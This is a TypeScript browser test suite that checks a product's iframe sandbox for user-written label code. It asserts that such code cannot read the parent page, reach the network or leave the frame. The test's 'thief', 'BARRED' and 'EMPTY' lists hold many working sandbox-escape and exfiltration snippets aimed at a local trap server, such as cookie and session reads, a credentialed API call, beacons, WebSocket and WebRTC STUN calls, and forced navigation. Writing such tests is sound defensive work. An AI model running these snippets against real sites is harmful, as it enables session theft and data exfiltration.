import dgram from 'node:dgram';
import { createServer } from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { build } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { labelFrame } from '../apps/server/src/domains/labels/frame/page.ts';
import type { FrameState, FrameSupervisor } from '../apps/web/src/domains/labels/runtime/frame/frameSupervisor.ts';
import { getSharedBrowser } from './browser.ts';

/** The models of a scene and its frames take their time on a machine that does much else. */
const within = <T>(timeout: number, read: () => T) => expect.poll(read, { timeout, interval: 100 });

/** Hears whatever a label sends, by TCP or UDP. */
const hits: string[] = [];
/** Connections to the same address, whether or not anything was sent over them. */
let connections = 0;
const tcp = net.createServer((line) => {
  connections += 1;
  line.on('data', (data) => hits.push(String(data).split('\r\n')[0] ?? ''));
  line.on('error', () => undefined);
});
const udp = dgram.createSocket('udp4');
beforeAll(async () => {
  udp.on('message', () => hits.push('UDP'));
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const { outputFiles } = await build({
    stdin: {
      contents: "import { frameSupervisor } from './frameSupervisor.ts'; Object.assign(window, { frameSupervisor });",
      resolveDir: path.join(import.meta.dirname, '../apps/web/src/domains/labels/runtime/frame'),
    },
    bundle: true,
    format: 'esm',
    write: false,
  });
  script = outputFiles[0]?.text ?? '';
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  browser = await getSharedBrowser();
}, 120_000);
afterAll(async () => {
  site.closeAllConnections();
  site.close();
  tcp.close();
  udp.close();
}, 60_000);

/**
 * The frame as the server sends it, in a page with what the product's policy says of frames and scripts, and the keeper
 * of frames as it is in the product.
 */
let browser: Browser;
let script = '';
const asked: string[] = [];
const site = createServer((request, response) => {
  asked.push(request.url ?? '');
  const isFrame = request.url === labelFrame.path;
  response.setHeader(
    'content-security-policy',
    isFrame ? labelFrame.policy : "default-src 'self'; script-src 'self'; frame-src 'self'; style-src 'self'",
  );
  if (request.url === '/script.js') return response.setHeader('content-type', 'text/javascript').end(script);
  response.setHeader('content-type', 'text/html');
  return response.end(
    isFrame ? labelFrame.html : '<!doctype html><title>secret</title><script type="module" src="/script.js"></script>',
  );
});

const told = (words: string): string => `document.body.append(' ${words}');`;
/** Every way out that is known, each tried on its own; what it finds is written into the label. */
const thief = (tcpPort: number, udpPort: number): string => {
  const trap = `http://127.0.0.1:${tcpPort}`;
  const stun = `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]})`;
  const call = `const pc=${stun};pc.createDataChannel('x');pc.createOffer().then((o)=>pc.setLocalDescription(o))`;
  const nested = JSON.stringify(`<script>${call}</script>`).replaceAll('</', '<\\/');
  const tries = [
    `if (parent.document.title) ${told('READ-PARENT')}`,
    `if (parent.sessionStorage.length >= 0) ${told('READ-SESSION')}`,
    `if (localStorage.length >= 0) ${told('READ-STORAGE')}`,
    `if (document.cookie !== undefined) ${told('READ-COOKIE')}`,
    `top.location = '${trap}/top'`,
    `fetch('${trap}/fetch?' + document.referrer).catch(() => {})`,
    `fetch('/api/User/GetUserInfo', { credentials: 'include' }).then(() => { ${told('CALLED-API')} }, () => {})`,
    `navigator.sendBeacon('${trap}/beacon', 'x')`,
    `new Image().src = '${trap}/image'`,
    `new WebSocket('ws://127.0.0.1:${tcpPort}/socket')`,
    `new EventSource('${trap}/events')`,
    `open('${trap}/popup')`,
    `const f = document.createElement('form'); f.action = '${trap}/form'; document.body.append(f); f.submit()`,
    `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${trap}/'; document.head.append(l)`,
    `const s = document.createElement('style'); s.textContent = "@import '${trap}/css'; body { background: url(${trap}/background) }"; document.head.append(s)`,
    `const s = document.createElement('script'); s.src = '${trap}/script'; document.body.append(s)`,
    call,
    `const i = document.createElement('iframe'); i.srcdoc = ${nested}; document.body.append(i)`,
    // Before anybody can see that a frame was made; in a document of its own, and out of a template.
    `const i = document.createElement('iframe'); document.body.append(i); if (i.contentWindow.RTCPeerConnection) { ${told('FRAME-IN-FRAME')} }`,
    `const d = document.implementation.createHTMLDocument(); const i = d.createElement('iframe'); document.body.append(document.adoptNode(i)); if (i.contentWindow.RTCPeerConnection) { ${told('FRAME-ADOPTED')} }`,
    `document.body.insertAdjacentHTML('beforeend', '<iframe name=inner></iframe>'); if (frames[0].RTCPeerConnection) { ${told('FRAME-WRITTEN')} }`,
    `const h = document.createElement('div'); h.attachShadow({ mode: 'closed' }).innerHTML = '<iframe></iframe>'; document.body.append(h); ${told('SHADOW')}`,
    `document.write('<iframe src="${trap}/written"></iframe>')`,
    `for (let n = 0; n < 1e4; n++) label.press()`,
    `setTimeout(() => { location.href = '${trap}/away' }, 800)`,
  ];
  return `${tries.map((one) => `try { ${one} } catch {}`).join('\n')}\ndocument.body.append(' TRIED');`;
};

const textOf = async (page: Page, words: string) => {
  for (const frame of page.frames()) {
    const text = await Promise.race([
      frame.evaluate(() => document.body.innerText).catch(() => ''),
      new Promise<string>((resolve) => setTimeout(() => resolve(''), 300)),
    ]);
    if (frame !== page.mainFrame() && text.includes(words)) return text;
  }
  return '';
};
/** Frames that the page draws in a second. */
const pace = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const from = performance.now();
        let count = 0;
        const next = () => {
          count += 1;
          if (performance.now() - from > 1_000) resolve(count);
          else requestAnimationFrame(next);
        };
        requestAnimationFrame(next);
      }),
  );

type World = typeof globalThis & { frameSupervisor: FrameSupervisor; states: FrameState[]; presses: number };
const opened = async (codes: readonly string[]) => {
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${(site.address() as net.AddressInfo).port}/`);
  await page.waitForFunction(() => 'frameSupervisor' in window);
  await page.evaluate((all) => {
    const world = globalThis as World;
    world.states = [];
    world.presses = 0;
    for (const [index, js] of all.entries()) {
      const place = document.createElement('div');
      document.body.append(place);
      world.frameSupervisor.add(
        place,
        {
          html: '<b>CODE</b> <i data-key="t"></i>',
          css: '',
          js,
          theme: 'dark',
          rows: [{ key: 't', text: '21.4', unit: '°C', isOld: false }],
        },
        {
          onState: (state) => {
            world.states[index] = state;
          },
          onPress: () => {
            world.presses += 1;
          },
        },
      );
    }
  }, codes);
  return page;
};
const states = (page: Page) => page.evaluate(() => (globalThis as World).states);

it('RU-LBL-07 code of a label reaches neither the page nor the session nor the network, however it tries', async () => {
  const [tcpPort = 0, udpPort = 0] = [tcp, udp].map((one) => (one.address() as net.AddressInfo).port);
  const openedAt = performance.now();
  const page = await opened([thief(tcpPort, udpPort)]);
  await within(40_000, () => textOf(page, 'TRIED')).toContain('TRIED');
  const text = await textOf(page, 'TRIED');
  expect(text).toContain('21.4');
  expect(text).not.toMatch(/READ-|CALLED-|SHADOW|FRAME-/);
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  expect(hits).toEqual([]);
  // Of our own site it was given nothing but the frame itself.
  expect(asked.filter((one) => !['/', '/script.js', '/label-frame', '/favicon.ico'].includes(one))).toEqual([]);
  expect(await page.title()).toBe('secret');
  // Five presses a second, however many it tells of.
  const presses = await page.evaluate(() => (globalThis as World).presses);
  expect(presses).toBeLessThanOrEqual(5 * Math.ceil((performance.now() - openedAt) / 1_000));
  await page.close();
}, 90_000);

/**
 * Ways to lead the page, another window or a frame elsewhere that the sandbox and the policies end before anything is
 * connected to.
 */
const BARRED = (trap: string): string[] => [
  `top.location.href = '${trap}/top'`,
  `parent.location = '${trap}/parent'`,
  `open('${trap}/blank', '_blank')`,
  `const a = document.createElement('a'); a.href = '${trap}/ping'; a.ping = '${trap}/pinged'; a.target = '_blank'; document.body.append(a); a.click()`,
  `const l = document.createElement('link'); l.rel = 'dns-prefetch preconnect'; l.href = '${trap}/'; document.head.append(l)`,
  `const f = document.createElement('form'); f.method = 'post'; f.action = '${trap}/form'; document.body.append(f); f.requestSubmit()`,
  `const f = document.createElement('form'); f.action = '${trap}/get'; document.body.append(f); f.submit()`,
  `location.href = 'data:text/html,<img src=${trap}/data>'`,
  `location.href = URL.createObjectURL(new Blob(['<img src="${trap}/blob">'], { type: 'text/html' }))`,
  `location.href = 'javascript:fetch("${trap}/script")'`,
];
/**
 * Ways to lead the frame itself elsewhere. The page's policy refuses each, but the browser opens a connection before it
 * asks that policy; nothing is sent over it.
 */
const EMPTY = (trap: string): string[] => [
  `location.href = '${trap}/href'`,
  `location.assign('${trap}/assign')`,
  `location.replace('${trap}/replace')`,
  `document.location = '${trap}/document'`,
  `open('${trap}/self', '_self')`,
  `navigation.navigate('${trap}/navigation')`,
  `const a = document.createElement('a'); a.href = '${trap}/anchor'; document.body.append(a); a.click()`,
  `document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${trap}/refresh">')`,
  `document.body.insertAdjacentHTML('beforeend', '<iframe src="${trap}/frame"></iframe><object data="${trap}/object"></object>')`,
];

/** Runs each code in a frame of its own, all at once; each says that it runs before it tries to leave. */
async function leave(codes: readonly string[], trap: string): Promise<void> {
  const page = await opened(codes.map((code) => `setTimeout(() => { ${code} }, 3500)`));
  await within(40_000, () => states(page)).toEqual(codes.map(() => 'running'));
  await new Promise((resolve) => setTimeout(resolve, 5_500));
  expect(await page.title()).toBe('secret');
  const pages = browser.contexts().flatMap((context) => context.pages());
  expect(pages.filter((one) => one.url().includes(trap))).toEqual([]);
  await page.close();
}

it('RU-LBL-07 code of a label leads nobody elsewhere: barred ways do not even connect, and over no way goes a byte', async () => {
  const trap = `http://127.0.0.1:${(tcp.address() as net.AddressInfo).port}`;
  hits.splice(0);
  connections = 0;
  await leave(BARRED(trap), trap);
  expect(connections).toBe(0);
  await leave(EMPTY(trap), trap);
  expect(hits).toEqual([]);
}, 180_000);

it('RU-LBL-07 a loop without end, at once or later, is found and stopped, while the page goes on and the other labels run again', async () => {
  const page = await opened(['', 'for (;;);', 'setTimeout(() => { for (;;); }, 3000)', '']);
  await new Promise((resolve) => setTimeout(resolve, 3_500));
  expect(await pace(page)).toBeGreaterThan(5);
  await within(150_000, () => states(page)).toEqual(['running', 'off', 'off', 'running']);
  expect(await pace(page)).toBeGreaterThan(5);
  await page.close();
}, 200_000);
